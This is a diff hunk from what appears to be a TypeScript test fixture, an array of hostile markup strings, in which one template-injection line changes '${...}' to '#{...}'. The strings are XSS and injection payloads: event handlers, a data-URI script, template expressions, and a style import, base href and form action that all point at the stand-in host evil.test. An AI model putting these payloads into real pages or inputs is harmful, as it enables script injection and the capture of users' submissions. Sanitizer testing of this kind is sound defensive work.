@@ -13,6 +13,6 @@ export const hostileMarkup: string[] = [
   '<style>@import"//evil.test";*{background:url(//evil.test)}</style>',
   '<base href=//evil.test><form action=//evil.test><button>Entrar</button>',
   '<details open ontoggle=hacked()><math><mi xlink:href="data:x,<script>hacked()</script>">',
-  '{{constructor.constructor("hacked()")()}} ${hacked()} <%= hacked() %>',
+  '{{constructor.constructor("hacked()")()}} #{hacked()} <%= hacked() %>',
   '&lt;script&gt;hacked()&lt;/script&gt; \\u003cimg onerror=hacked()\\u003e',
 ];
